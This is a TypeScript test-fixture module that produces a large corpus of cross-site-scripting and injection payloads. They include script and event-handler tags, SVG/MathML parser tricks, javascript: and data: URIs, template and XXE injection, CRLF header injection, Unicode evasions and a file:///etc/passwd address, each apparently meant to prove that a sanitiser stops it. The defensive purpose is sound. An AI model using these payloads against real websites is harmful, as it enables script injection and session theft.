/** Texts that run something, or leave a mark, where a page takes them for more than text. None is to do so anywhere. */

/** What runs; a page that lets it run is told of by a trap that lies under this name. */
const act = '__ran=1';
/** What is left where it is taken for HTML: an element, or within a tag an attribute. */
const [mark, markAttribute] = ['<x-ran></x-ran>', ' x-ran="'];
/** A server that nobody may be led to ask. */
const away = '//ran.invalid';

const handlers = [
  `<script>${act}</script>`,
  `<SCRIPT\t>${act}</SCRIPT >`,
  `<script src=${away}/x.js></script>`,
  `<script type=module>${act}</script>`,
  `<img src=x onerror=${act}>`,
  `<IMG SRC=x ONERROR="${act}">`,
  `<img/src=x/onerror=${act}>`,
  `<img src=${away}/x.png>`,
  `<image href=x onerror=${act}>`,
  `<svg onload=${act}>`,
  `<svg/onload=${act}//`,
  `<svg><script>${act}</script></svg>`,
  `<svg><script href=data:,${act} /></svg>`,
  `<svg><a xlink:href="javascript:${act}"><text>x</text></a></svg>`,
  `<svg><animate onbegin=${act} attributeName=x dur=1s>`,
  `<svg><set attributeName=href onbegin=${act} to="javascript:${act}">`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'/>#x"/></svg>`,
  `<svg><foreignObject><iframe srcdoc="<script>parent.${act}</script>"></foreignObject></svg>`,
  `<svg><style><img src=x onerror=${act}></style></svg>`,
  `<math href="javascript:${act}">x</math>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${act}></style></mglyph></table></mtext></math>`,
  `<body onload=${act}>`,
  `<frameset onload=${act}>`,
  `<iframe srcdoc="<script>parent.${act}</script>"></iframe>`,
  `<iframe src="javascript:parent.${act}"></iframe>`,
  `<object data="data:text/html,<script>${act}</script>"></object>`,
  `<embed src="javascript:${act}">`,
  `<video src=x onerror=${act}></video>`,
  `<video><source onerror=${act}></video>`,
  `<audio src=x onerror=${act}></audio>`,
  `<details open ontoggle=${act}>x</details>`,
  `<input autofocus onfocus=${act}>`,
  `<select autofocus onfocus=${act}></select>`,
  `<button autofocus onfocus=${act} formaction=javascript:${act}>x</button>`,
  `<marquee onstart=${act}>x</marquee>`,
  `<form action="javascript:${act}"><button>x</button></form>`,
  `<a href="javascript:${act}">x</a>`,
  `<a href=" javascript:${act}">x</a>`,
  `<a href="java&#10;script:${act}">x</a>`,
  `<a href=${away}/ target=_top>x</a>`,
  `<base href=${away}/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${act}">`,
  `<meta http-equiv=refresh content="0;url=${away}/">`,
  `<meta http-equiv=Content-Security-Policy content="script-src *">`,
  `<link rel=stylesheet href=${away}/x.css>`,
  `<link rel=import href=${away}/x>`,
  `<link rel=preload as=script href=${away}/x.js>`,
  `<style>@import "${away}/x.css";</style>`,
  `<style onload=${act}></style>`,
  `<div style="background:url(${away}/x.png)">x</div>`,
  `<div style="animation-name:x" onanimationstart=${act}>x</div>`,
  `<p onpointerenter=${act} onmouseover=${act}>x</p>`,
  `<template shadowrootmode=open><img src=x onerror=${act}></template>`,
  `<dialog open><input autofocus onfocus=${act}></dialog>`,
  `<noscript><p title="</noscript><img src=x onerror=${act}>"></noscript>`,
  `<x contenteditable onfocus=${act} tabindex=1 autofocus>x</x>`,
  `<progress onauxclick=${act} onclick=${act}>x</progress>`,
  `<label for=q onclick=${act}>x</label>`,
  `<area href="javascript:${act}">`,
  `<table background="${away}/x.png"><td>x</td></table>`,
  `<picture><source srcset=${away}/x.png><img src=x onerror=${act}></picture>`,
  `<img srcset="x,y" sizes=1px onerror=${act} onload=${act}>`,
  `<input type=image src=x onerror=${act}>`,
  `<isindex action=javascript:${act} type=image>`,
  `<textarea autofocus onfocus=${act}></textarea>`,
  `<svg><image href=x onerror=${act}></svg>`,
  `<svg><discard onbegin=${act}></svg>`,
  `<button popovertarget=x onbeforetoggle=${act}>x</button><div id=x popover onbeforetoggle=${act}>x</div>`,
  `<form id=ask><input name=submit></form>`,
  `<img name=getElementById><a id=query></a>`,
];

/** What ends the element or the attribute that a text stands in. */
const breaks = [
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</script>',
  '</option></select>',
  '</svg>',
  '-->',
  ']]>',
  '</pre>',
];
const broken = breaks.flatMap((end) => [
  `${end}<script>${act}</script>`,
  `${end}<img src=x onerror=${act}>`,
  `${end}<svg onload=${act}>`,
]);

const attributes = [
  `" onmouseover="${act}"`,
  `' onmouseover='${act}'`,
  `" autofocus onfocus="${act}"`,
  `"onfocus=${act} autofocus tabindex=1 `,
  `\` onerror=${act} `,
  `\\" onfocus=\\"${act}\\" autofocus`,
  `"\nonload="${act}"`,
  `"/onload=${act} `,
  `" style="background:url(${away}/a.png)"`,
  `" href="javascript:${act}"`,
  `" formaction="javascript:${act}"`,
  `" srcdoc="<script>${act}</script>"`,
  `" src="${away}/b.png"`,
  `" id="main" class="skip"`,
  `x onerror=${act} `,
].map((text) => `${text}${markAttribute}`);

const scripts = [
  `";${act};//`,
  `';${act};//`,
  `\`;${act};//`,
  `\${${act}}`,
  `'-(${act})-'`,
  `*/${act}/*`,
  `\\";${act};//`,
  `\u2028${act}//`,
  `\u2029${act}//`,
  `</script><script>${act}</script>`,
  `</ScRiPt\t><script>${act}</script>`,
  `"}]}</script><script>${act}</script>`,
  `<!--<script>${act}</script>`,
  `\\u003c/script>\\u003cscript>${act}`,
  `\\x3cscript>${act}\\x3c/script>`,
  `__proto__`,
  `constructor`,
  `{"__proto__":{"x":"${act}"}}`,
];

const templates = [
  `{{constructor.constructor('${act}')()}}`,
  `{{${act}}}`,
  `<%= ${act} %>`,
  `#{${act}}`,
  `@{${act}}`,
  `[[${act}]]`,
  `<?php ${act} ?>`,
  `<!--#exec cmd="${act}"-->`,
  `<?xml-stylesheet href="javascript:${act}"?>`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "${away}/">]>&x;`,
  `<h:script xmlns:h="http://www.w3.org/1999/xhtml">${act}</h:script>`,
  `{count, plural, one {#} other {${act}}}`,
  `{place} '{' }`,
  `<b>{say}</b>`,
];

const markdown = [
  `[x](javascript:${act})`,
  `![x](${away}/x.png)`,
  `![x](x "onerror=${act}")`,
  `<javascript:${act}>`,
  `[x]: javascript:${act}`,
  `# <img src=x onerror=${act}>`,
  `**<script>${act}</script>**`,
  `\`\`\`html\n<script>${act}</script>\n\`\`\``,
  `| <svg onload=${act}> |`,
];

const entities = [
  `&lt;script&gt;${act}&lt;/script&gt;`,
  `&#60;script&#62;${act}&#60;/script&#62;`,
  `&#x3c;script&#x3e;${act}`,
  `&amp;lt;script&amp;gt;${act}`,
  `&quot; onload=${act} &quot;`,
  `&#34; onload=${act} &#34;`,
  `&NewLine;<svg onload=${act}>`,
  `%3Cscript%3E${act}%3C/script%3E`,
  `%22%20onload=${act}`,
  `+ADw-script+AD4-${act}+ADw-/script+AD4-`,
];

const characters = [
  `\uff1cscript\uff1e${act}\uff1c/script\uff1e`,
  `\u202e<script>${act}</script>`,
  `\u2066<img src=x onerror=${act}>\u2069`,
  `\ufeff<script>${act}</script>`,
  `\u00a0<svg onload=${act}>`,
  `<\u200bscript>${act}`,
  `<scr\u00adipt>${act}`,
  `\u{e0001}\u{e0041}<img src=x onerror=${act}>`,
  `\u{1f600}<script>${act}</script>`,
  `e\u0301\u0302\u0303\u0304\u0305<script>${act}</script>`,
  `\u0001<script>${act}</script>`,
  `\u0008<img src=x onerror=${act}>`,
  `\u000b<svg onload=${act}>`,
  `<svg\u000conload=${act}>`,
  `\u001b[31m<script>${act}</script>`,
  `\u001b$B<script>${act}</script>`,
  `\u007f<script>${act}</script>`,
  `\u0085<script>${act}</script>`,
  `\r\n\r\n<script>${act}</script>`,
  `\r\nSet-Cookie: ran=1\r\n\r\n<script>${act}</script>`,
  `\t<script\t>${act}</script>`,
  `\ufffd\ufffe<script>${act}</script>`,
];

/** Addresses that run, or lead away, where they are made a link. */
const addresses = [
  `javascript:${act}`,
  `JaVaScRiPt:${act}`,
  `java\tscript:${act}`,
  `\u0001javascript:${act}`,
  `javascript&colon;${act}`,
  `&#106;avascript:${act}`,
  `javascript://%0a${act}`,
  `vbscript:${act}`,
  `data:text/html,<script>${act}</script>`,
  `data:text/html;base64,PHNjcmlwdD5fX3Jhbj0xPC9zY3JpcHQ+`,
  `data:image/svg+xml,<svg onload=${act}>`,
  `data:text/html,%3Cscript%3E${act}%3C/script%3E`,
  `view-source:javascript:${act}`,
  `feed:javascript:${act}`,
  `blob:${act}`,
  `file:///etc/passwd`,
  `${away}/`,
  `\\\\ran.invalid\\x`,
  `/\\ran.invalid/`,
  `https:ran.invalid`,
];

/** Each once; what might leave a mark does so at its end. */
export const payloads: readonly string[] = [
  ...new Set([
    ...[...handlers, ...broken, ...scripts, ...templates, ...markdown, ...entities, ...characters, ...addresses].map(
      (text) => text + mark,
    ),
    ...attributes,
  ]),
];

/** What makes a browser skip all that follows it, where it is taken for HTML. */
const swallows = (text: string): boolean => /<!--|<(?:style|iframe|noscript|frameset|template|object|math)/i.test(text);

/** The same, several in a text of so many letters; what swallows all that follows it stands last. */
export function payloadTexts(longest: number): string[] {
  const last = payloads.filter(swallows);
  const texts: string[] = [];
  let text = '';
  const end = (): void => {
    texts.push(text + (last.shift() ?? ''));
    text = '';
  };
  for (const payload of payloads.filter((one) => !swallows(one))) {
    if (text !== '' && text.length + payload.length + (last[0]?.length ?? 0) > longest) end();
    text += payload;
  }
  end();
  return [...texts, ...last];
}

/** Those that an IRI may be, with others that lead away from under the base. */
export const payloadIris = (base: string): string[] => [
  ...addresses.filter((one) => /^[a-z][a-z-]*:[^\s<>"{}|\\^`]+$/i.test(one)),
  ...['/ran.invalid/x', '//ran.invalid/x', '../ran', "x'onfocus='__ran=1", '?q=x&lang=y', 'javascript:__ran=1'].map(
    (path) => base + path,
  ),
  "https://ran.invalid/'onfocus='__ran=1",
  'https://user:__ran@ran.invalid/',
  `mailto:x@ran.invalid?subject='onfocus='__ran=1`,
  'urn:ran:__ran=1',
];
